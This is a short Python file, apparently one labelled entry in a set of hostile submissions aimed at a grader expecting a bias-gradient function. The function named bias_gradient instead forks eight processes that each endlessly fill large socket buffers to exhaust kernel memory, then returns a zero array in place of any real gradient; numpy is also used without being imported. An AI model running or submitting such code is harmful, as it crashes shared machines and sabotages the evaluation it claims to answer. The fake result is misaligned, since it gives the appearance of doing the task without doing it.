# Tries: leaves megabytes waiting in sockets, which is memory of the kernel
# Attacks: affine/bias-gradient
# Class: own
# %%
import os
import socket
import time

def fill():
    pairs = []
    while True:
        for end in (pair := socket.socketpair()):
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
            end.setblocking(False)
            try:
                while True:
                    end.send(b"x" * 30000)
            except BlockingIOError:
                pass
        pairs.append(pair)

def bias_gradient(dY):
    for _ in range(8):
        if os.fork() == 0:
            try:
                fill()
            finally:
                os._exit(0)
    os.wait()
    return np.zeros(dY.shape[1])
